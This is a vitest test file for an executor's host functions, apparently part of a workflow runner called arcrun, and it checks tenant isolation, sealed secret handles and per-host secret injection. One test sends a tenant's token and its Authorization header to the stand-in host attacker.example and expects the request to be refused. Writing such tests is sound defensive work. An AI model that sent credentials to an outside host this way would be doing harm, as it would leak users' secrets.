import { getRecipe } from "@arcrun/recipes";
import { describe, expect, it } from "vitest";
import { checkExecutorKey, type KvStore, SecretRegistry } from "../../src/host/credentials.js";
import { createHostFunctions, fetchFailure, type HostContext, USER_AGENT } from "../../src/host/functions.js";
import { credentialKey, tokenCacheKey } from "../../src/keys.js";
import { generateExecutorKey, sealLegacy } from "../helpers/credentials.js";

// The u6u functions at the ABI boundary, as a component calls them: tenant isolation is structural (the
// component names keys without a tenant; the host adds the tenant of the request).
const key = generateExecutorKey();
const kv = new Map<string, string>();
const store: KvStore = {
  get: async (k) => kv.get(k) ?? null,
  put: async (k, v) => {
    kv.set(k, v);
  },
  delete: async (k) => {
    kv.delete(k);
  },
};
const sealed = await sealLegacy(key, "notion", "secret_tenant_a_token");
kv.set(credentialKey("tenant_a", "notion"), JSON.stringify({ ...sealed, recipe: "notion", created_at: "" }));

function hostFor(tenant: string, fetched: Request[] = []) {
  const ctx: HostContext = {
    tenant,
    kv: store,
    encryptionKey: () => checkExecutorKey(key),
    fetch: async (req) => {
      fetched.push(req);
      return Response.json({ ok: true });
    },
    recipe: getRecipe,
    secrets: new SecretRegistry(),
    budget: { hostCalls: 0, maxHostCalls: 100 },
    maxResponseBytes: 1 << 20,
    opened: new Map(),
    digestNonces: new Map(),
  };
  return createHostFunctions(ctx);
}

describe("u6u host functions", () => {
  it("kv_get reads the tenant's own credential metadata, never the ciphertext", async () => {
    const r = await hostFor("tenant_a").kv_get('{"key":"cred:notion"}');
    expect(r.status).toBe(0);
    expect(JSON.parse(r.body)).toEqual({ name: "notion", recipe: "notion", created_at: "" });
  });

  it("another tenant finds nothing under the same name, and cannot name a tenant", async () => {
    const b = hostFor("tenant_b");
    expect((await b.kv_get('{"key":"cred:notion"}')).status).toBe(1);
    for (const raw of [
      "tenant_a:cred:notion",
      "cred:tenant_a:cred:notion",
      credentialKey("tenant_a", "notion"),
      "webhook:tenant_a:x",
      "cred:../notion",
    ]) {
      const r = await b.kv_get(JSON.stringify({ key: raw }));
      expect(r.status).toBe(2);
      expect(JSON.parse(r.body)).toMatchObject({ code: "ERR_HOST_DENIED" });
    }
    expect((await b.crypto_decrypt('{"name":"notion"}')).status).toBe(1);
    expect((await b.crypto_sign_rs256('{"credential":"notion","data":"x"}')).status).toBe(1);
  });

  it("crypto_decrypt gives a sealed handle, never the plaintext", async () => {
    const a = hostFor("tenant_a");
    const r = await a.crypto_decrypt('{"name":"notion"}');
    expect(r.status).toBe(0);
    expect(r.body).not.toContain("secret_tenant_a_token");
    const view = JSON.parse(r.body) as { secrets: { token: string }; public: Record<string, string> };
    expect(view.secrets.token).toMatch(/^arcrun_sealed_[a-z2-7]{32}$/);
    expect(view.public).toEqual({});
  });

  it("kv_put writes only the tenant's oauth2 cache of a credential it has", async () => {
    const a = hostFor("tenant_a");
    expect((await a.kv_put('{"key":"cred:notion","value":"x"}')).status).toBe(2);
    expect((await a.kv_put('{"key":"oauth2:ghost","value":"x"}')).status).toBe(2);
    expect(
      (await a.kv_put('{"key":"oauth2:notion","value":"{\\"access_token\\":\\"at-123456\\"}","ttl":120}'))
        .status,
    ).toBe(0);
    expect(kv.get(tokenCacheKey("tenant_a", "notion"))).toBe('{"access_token":"at-123456"}');
  });

  it("http_request puts a handle's secret back only on the recipe's hosts, in its inject header", async () => {
    const fetched: Request[] = [];
    const a = hostFor("tenant_a", fetched);
    const view = JSON.parse((await a.crypto_decrypt('{"name":"notion","inject":"static_key"}')).body) as {
      headers: Record<string, string>;
      secrets: { token: string };
    };
    const auth = view.headers.Authorization as string;
    const leak = await a.http_request(
      JSON.stringify({ url: "https://attacker.example/x", headers: { authorization: auth } }),
    );
    expect(leak.status).toBe(2);
    expect(JSON.parse(leak.body)).toMatchObject({ code: "ERR_HOST_NOT_ALLOWED" });
    // On the right host but in a header the recipe does not inject: refused as well.
    const wrongPlace = await a.http_request(
      JSON.stringify({ url: "https://api.notion.com/v1/users/me", headers: { "x-echo": auth } }),
    );
    expect(JSON.parse(wrongPlace.body)).toMatchObject({ code: "ERR_HOST_NOT_ALLOWED" });
    // The plaintext itself (as an API might echo it) is refused outside the hosts too.
    const plain = await a.http_request(
      JSON.stringify({ url: "https://attacker.example/x", body: "secret_tenant_a_token" }),
    );
    expect(plain.status).toBe(2);
    const allowed = await a.http_request(
      JSON.stringify({ url: "https://api.notion.com/v1/users/me", headers: { Authorization: auth } }),
    );
    expect(allowed.status).toBe(0);
    expect(fetched.map((r) => new URL(r.url).hostname)).toEqual(["api.notion.com"]);
    expect(fetched[0]?.headers.get("authorization")).toBe("Bearer secret_tenant_a_token");
    expect(fetched[0]?.headers.get("user-agent")).toBe(USER_AGENT);
    expect(fetched[0]?.redirect).toBe("manual");
  });

  it("http_request sends arcrun's User-Agent unless the workflow set one", async () => {
    const fetched: Request[] = [];
    const a = hostFor("tenant_a", fetched);
    await a.http_request(JSON.stringify({ url: "https://api.notion.com/" }));
    await a.http_request(
      JSON.stringify({ url: "https://api.notion.com/", headers: { "User-Agent": "mine/1" } }),
    );
    expect(fetched.map((r) => r.headers.get("user-agent"))).toEqual([USER_AGENT, "mine/1"]);
    expect(USER_AGENT).toMatch(/^arcrun\/\d+\.\d+\.\d+/);
  });

  it("counts host calls against the run's budget", async () => {
    const ctx = hostFor("tenant_a");
    let error: unknown;
    try {
      for (let i = 0; i < 101; i++) await ctx.kv_get('{"key":"recipe:notion"}');
    } catch (err) {
      error = err;
    }
    expect(error).toMatchObject({ code: "ERR_LIMIT_HOST_CALLS" });
  });

  it("workerd's opaque fetch error reads as an unreachable host; other errors keep their text", () => {
    // The shape workerd gives for a host that does not resolve (seen end to end in packages/cli's
    // workflow.integration.test.ts against a .invalid host).
    expect(
      fetchFailure("api.github.com", "Error: internal error; reference = 93b8utbnm29djvmrh6ef3t08"),
    ).toBe(
      "could not reach api.github.com (network or DNS): check the URL's host, and that it resolves and answers from where the executor runs (workerd reference 93b8utbnm29djvmrh6ef3t08)",
    );
    expect(fetchFailure("x.test", "TypeError: Invalid header value")).toBe(
      "request to x.test failed: TypeError: Invalid header value",
    );
  });
});
